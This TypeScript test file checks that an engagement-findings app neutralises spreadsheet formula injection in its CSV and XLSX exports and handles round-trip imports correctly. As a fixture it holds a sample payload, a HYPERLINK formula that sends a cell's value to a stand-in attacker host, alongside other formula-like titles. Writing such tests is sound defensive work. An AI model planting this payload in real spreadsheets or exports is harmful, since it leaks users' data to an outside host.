import * as ExcelJS from 'exceljs';
import { csvRecords } from '../../src/common/csv';
import { createTestApp, TestApp } from '../utils/create-test-app';
import { engagementInput } from '../factories/engagement.factory';
import { findingInput } from '../factories/finding.factory';
import { binary } from '../utils/pdf';
import { Session, signIn } from '../utils/sessions';

const CSV = 'text/csv';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Open")';
/** Titles a spreadsheet would run as formulas, and one that already carries the guard's quote. */
const TITLES = [HYPERLINK, '+1 call centre for the whole country', '-5 checkpoints at the stadium', '@SUM(1+1) venues', "'=already quoted"];

/** The cells of a CSV, by header name. */
function csvTable(text: string): Record<string, string>[] {
  const [header, ...rows] = [...csvRecords(text)];
  return rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index] ?? ''])));
}

describe('Spreadsheet formula injection: every export neutralises formulas, every import takes them back', () => {
  let t: TestApp;
  let pm: Session;
  let url: string;

  const titles = async (): Promise<string[]> =>
    ((await pm.get(`${url}/findings?limit=200`).expect(200)).body.items as { code: string; title: string }[]).sort((a, b) => a.code.localeCompare(b.code)).map((f) => f.title);

  beforeAll(async () => {
    t = await createTestApp();
    pm = await signIn(t, 'programme_manager');
    const id = (await pm.post('/api/engagements').send(engagementInput({ country: 'TGO', title: HYPERLINK })).expect(201)).body.id;
    url = `/api/engagements/${id}`;
    for (const title of TITLES) await pm.post(`${url}/findings`).send(findingInput({ title, observation: `-${title}` })).expect(201);
  });
  afterAll(() => t.close());

  it('exports the findings CSV with every formula-like text cell behind a quote', async () => {
    const rows = csvTable((await pm.get(`${url}/findings/export?format=csv`).expect(200)).text);
    expect(rows.map((row) => row.title)).toEqual(TITLES.map((title) => `'${title}`));
    expect(rows.map((row) => row.observation)).toEqual(TITLES.map((title) => `'-${title}`));
    // Numbers and plain text are left as they are.
    expect(rows.map((row) => row.level)).toEqual(TITLES.map(() => '2'));
    expect(rows[0].kind).toBe('gap');
  });

  it('exports the findings XLSX with those cells as quoted text, never formulas, and numbers as numbers', async () => {
    const file = await pm.get(`${url}/findings/export?format=xlsx`).buffer(true).parse(binary).expect(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.body);
    const sheet = workbook.worksheets[0];
    const column = (name: string): number => (sheet.getRow(1).values as string[]).indexOf(name);
    for (const [index, title] of TITLES.entries()) {
      const row = sheet.getRow(index + 2);
      expect(row.getCell(column('title')).value).toBe(`'${title}`);
      expect(row.getCell(column('title')).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(column('level')).value).toBe(2);
    }
  });

  it('exports the portfolio CSV with the engagement title behind a quote and its numbers as numbers', async () => {
    const rows = csvTable((await pm.get('/api/portfolio?format=csv').expect(200)).text);
    expect(rows).toHaveLength(1);
    expect(rows[0].title).toBe(`'${HYPERLINK}`);
    expect(rows[0].daysInStage).toBe('0');
    expect(rows[0].actionsTotal).toBe('0');
  });

  it('imports an export back unchanged, in CSV and in XLSX', async () => {
    const before = await titles();
    expect(before).toEqual(TITLES);
    const csv = (await pm.get(`${url}/findings/export?format=csv`).expect(200)).text;
    expect((await pm.post(`${url}/findings/import`).set('content-type', CSV).send(csv).expect(201)).body).toMatchObject({ updated: 0, unchanged: TITLES.length });
    const xlsx = (await pm.get(`${url}/findings/export?format=xlsx`).buffer(true).parse(binary).expect(200)).body as Buffer;
    expect((await pm.post(`${url}/findings/import`).set('content-type', XLSX).send(xlsx).expect(201)).body).toMatchObject({ updated: 0, unchanged: TITLES.length });
    expect(await titles()).toEqual(before);
  });

  it('reads a quote typed in front of a formula as the guard, and a new formula-like title keeps its text', async () => {
    const header = 'kind,thematicArea,dimension,phase,level,title,observation,sensitivity,frameworkRefs,evidence';
    const file = `${header}\ngap,uas,legal,prevent,3,"'=1+1 typed with a quote",Plain.,restricted,,\n`;
    const result = (await pm.post(`${url}/findings/import`).set('content-type', CSV).send(file).expect(201)).body;
    expect(result.created).toBe(1);
    expect((await titles()).at(-1)).toBe('=1+1 typed with a quote');
  });
});
